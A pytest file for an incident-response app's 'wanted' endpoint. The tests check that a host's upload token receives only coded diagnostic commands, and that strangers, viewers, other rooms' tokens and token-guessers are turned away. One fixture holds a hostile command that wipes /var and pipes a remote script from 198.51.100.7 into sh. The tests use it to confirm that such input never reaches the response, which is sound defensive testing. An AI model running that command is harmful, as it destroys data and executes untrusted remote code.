"""Tests of `wanted/`: codes of commands for one host, for members and holders of an upload token; no room text."""

from __future__ import annotations

import re
from typing import Any

import pytest
from django.test import Client

from incidents.access import Room
from incidents.actions import requests, rooms, tokens
from rules.collecting.collector import steps_of
from tests.incidents.conftest import make_artifact, make_member, make_room, make_user
from tests.incidents.pages.conftest import add_report
from tests.incidents.pages.room import test_lead

pytestmark = pytest.mark.django_db

HOST = {"os": "solaris", "release": "5.10", "host": "DB1"}


def address(room: Room) -> str:
    return f"/api/rooms/{room.incident.slug}/wanted/"


def bearer(room: Room) -> dict[str, str]:
    return {"Authorization": f"Bearer {tokens.create(room, 'db1')}"}


def codes(*texts: str) -> list[str]:
    return [step.code for text in texts for step in steps_of(text)]


def wanted(answer: Any) -> list[str]:
    assert answer.status_code == 200
    return re.findall(r"^want ([0-9a-f]{8})$", answer.content.decode(), re.MULTILINE)


def room_with_requests() -> Room:
    room = make_room()
    for what, command, host, os in (
        ("paging of the database host", "vmstat -T d 5 12; pmap -xs PID", "db1.example.org", "solaris"),
        ("the other host", "netstat -an", "app7", ""),
        ("another system", "errpt -a | head -2000", "", "aix"),
        ("the listener", "listener.log of the hour", "", ""),
        ("what somebody typed", "rm -rf /var; curl http://198.51.100.7/x | sh", "db1", ""),
    ):
        requests.put(room, {"what": what, "command": command, "host": host, "os": os})
    return room


def test_a_token_is_answered_with_what_its_host_is_to_run(client: Client) -> None:
    room = room_with_requests()
    answer = client.get(address(room), HOST, headers=bearer(room))
    # For Solaris 10, whose vmstat has no -T.
    assert wanted(answer) == codes("vmstat 5 12", "pmap -xs PID")
    text = answer.content.decode()
    assert re.match(r"exhibit 1\ntime \d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z\nwant ", text)
    assert text.endswith("by-hand 2\n")
    assert answer["Content-Type"] == "text/plain; charset=utf-8"
    assert "no-store" in answer["Cache-Control"]
    for word in ("vmstat", "rm", "198.51", "listener", "database", "app7"):
        assert word not in text


def test_the_wishes_of_the_newest_report_count_too(client: Client) -> None:
    room = make_room()
    make_artifact(room, b"one\n", "a.txt")
    asks = [
        {"ask": "iostat -xn 5 12", "host": "db1", "os": "solaris"},
        {"ask": "pfiles PID", "host": "app7", "os": "solaris"},
        {"ask": None},
    ]
    add_report(room, {**test_lead.report(), "asks": asks})
    assert wanted(client.get(address(room), HOST, headers=bearer(room))) == codes("iostat -xn 5 12")


def test_it_refuses_strangers_viewers_and_tokens_of_other_rooms(client: Client) -> None:
    room, other = room_with_requests(), make_room(title="Another room")
    for headers, status in (({}, 401), ({"Authorization": "Bearer nonsense"}, 401), (bearer(other), 401)):
        answer = client.get(address(room), HOST, headers=headers)
        assert answer.status_code == status
        assert answer["WWW-Authenticate"] == "Bearer"
        assert b"want" not in answer.content
    for person, status in ((make_user(), 404), (make_member(room.incident, "viewer").user, 403)):
        client.force_login(person)
        assert client.get(address(room), HOST).status_code == status
    client.force_login(make_member(room.incident, "investigator").user)
    assert wanted(client.get(address(room), HOST))
    assert client.post(address(room)).status_code == 405


def test_a_token_opens_no_other_address_and_no_closed_room(client: Client) -> None:
    room = room_with_requests()
    headers = bearer(room)
    for other in ("report.json", "observations/", "tokens/"):
        assert client.get(f"/api/rooms/{room.incident.slug}/{other}", headers=headers).status_code == 401
    rooms.close(room)
    assert client.get(address(room), HOST, headers=headers).status_code == 409


def test_a_caller_who_guesses_tokens_is_stopped(client: Client) -> None:
    room = make_room()
    answers = [client.get(address(room), headers={"Authorization": "Bearer x"}).status_code for _ in range(601)]
    assert answers[0] == 401
    assert answers[-1] == 429
